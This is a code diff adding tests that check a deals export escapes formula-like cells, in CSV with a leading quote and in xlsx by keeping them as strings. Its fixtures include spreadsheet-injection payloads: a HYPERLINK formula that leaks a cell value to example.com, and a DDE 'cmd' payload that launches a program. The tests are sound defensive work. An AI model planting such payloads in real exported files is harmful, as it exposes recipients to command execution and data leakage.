@@ -2,6 +2,7 @@ import ExcelJS from 'exceljs';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { setUpStore } from '../../tests/support/tempStore';
 import { dealRows, workbookOf } from '../importing/fixtures/generateRows';
+import { csvRows } from '../importing/readers/csvRows';
 import { importBytes } from '../importing/testing';
 
 let store: Awaited<ReturnType<typeof setUpStore>>;
@@ -77,5 +78,37 @@ describe('export', () => {
     expect(csv).toBe(
       '\ufeff指标,本年,累计\r\nI1 中小微企业受让专利数,12,30\r\nI5 质押融资金额（万元）,"1,200.00",\r\n',
     );
+  });
+
+  it('writes party names that look like formulas as text: CSV cells get a leading quote, xlsx keeps strings', async () => {
+    const formulas = ['=HYPERLINK("http://example.com/?q="&A1,"点此查看")', "=cmd|' /C calc'!A0", '+1+2', '-2+3', '@SUM(1+1)'];
+    const own = await setUpStore('140100');
+    try {
+      // The import takes such names as they are (a party name is free text), one deal per name as its assignor.
+      const rows = dealRows(formulas.length, 1, 'FX').map((row, i) => row.map((cell, c) => (c === 7 ? formulas[i]! : cell)));
+      const job = await importBytes(own.call, await workbookOf({ 交易: rows }));
+      expect(job.report?.rejected).toEqual([]);
+
+      const csv = await own.call('export.list', { list: 'deals', filters: {}, format: 'csv' });
+      const text = Buffer.from(csv.base64, 'base64').subarray(3).toString('utf8');
+      const lines = [...csvRows(text)].flatMap((e) => (e.type === 'row' ? [e.cells] : []));
+      const assignors = lines.slice(1).map((cells) => cells[9]);
+      expect(assignors.sort()).toEqual(formulas.map((f) => `'${f}`).sort());
+
+      const xlsx = await own.call('export.list', { list: 'deals', filters: {}, format: 'xlsx' });
+      const workbook = new ExcelJS.Workbook();
+      await workbook.xlsx.load(Buffer.from(xlsx.base64, 'base64') as unknown as ArrayBuffer);
+      const cells = workbook.worksheets[0]!.getColumn(10).values.slice(2);
+      expect(cells.map((c) => typeof c).every((t) => t === 'string')).toBe(true);
+      expect([...cells].sort()).toEqual([...formulas].sort());
+    } finally {
+      own.close();
+    }
+  });
+
+  it('neutralises tab and carriage-return starts and text like -5 in tables, and keeps number cells numbers', async () => {
+    const table = { title: '公式', columns: ['名称', '数值'], rows: [['\t=1+1', -5], ['\r=1+1', '-5'], ['@A1', 0]] };
+    const csv = Buffer.from((await store.call('export.table', { ...table, format: 'csv' })).base64, 'base64');
+    expect(csv.subarray(3).toString('utf8')).toBe(`名称,数值\r\n'\t=1+1,-5\r\n"'\r=1+1",'-5\r\n'@A1,0\r\n`);
   });
 });
